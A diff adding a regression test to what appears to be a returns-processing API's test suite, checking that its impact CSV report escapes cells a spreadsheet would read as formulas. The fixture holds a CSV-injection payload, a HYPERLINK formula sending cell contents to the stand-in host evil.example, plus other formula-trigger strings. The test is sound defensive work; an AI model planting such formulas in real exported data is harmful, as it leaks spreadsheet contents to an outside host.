@@ -172,3 +172,27 @@ async def test_extend_by_is_capped(tmp_path):
         for huge in ("99999999999d", "3650d", "0.5s"):
             problem = assert_422(await http.post(f"/v1/deals/{deal_id}/extend", json={"extend_by": huge, "reason": "customer asked"}, headers=ops))
             assert "extend_by" in json.dumps(problem)
+
+
+async def test_the_impact_csv_quotes_a_product_id_a_spreadsheet_would_read_as_a_formula(tmp_path):
+    """Issue 24, 5. Before: the API's impact CSV wrote product ids (a receipt's, the caller's text) raw, so
+    `=HYPERLINK(...)` was a live formula in ops' spreadsheet; the console's CSV already quoted such cells."""
+    import csv
+    import io
+
+    from store.tables import ReturnedItem
+
+    settings = make_settings(tmp_path)
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
+    with session_scope(settings.effective_database_url) as session:
+        for n, product_id in enumerate((formula, "+SUM(1)", "-1+2", "@cmd", "C9300-48P")):
+            session.add(ReturnedItem(serial=f"SN-{n}", deal_id="D1", batch_id="B1", product_id=product_id, condition="working", age_years=1, disposition="recycle"))
+        session.commit()
+    async with api_client(settings) as http:
+        answer = await http.get("/v1/reports/impact?format=csv", headers=key(settings))
+    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv"), answer.text
+    rows = list(csv.reader(io.StringIO(answer.text)))
+    unknown = {row[1]: row[2] for row in rows if row[0] == "unknown_product_units"}
+    assert unknown == {"'" + formula: "1", "'+SUM(1)": "1", "'-1+2": "1", "'@cmd": "1"}, unknown
+    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row), rows
+    assert ["totals", "units_returned", "5"] in rows  # the figures themselves are untouched
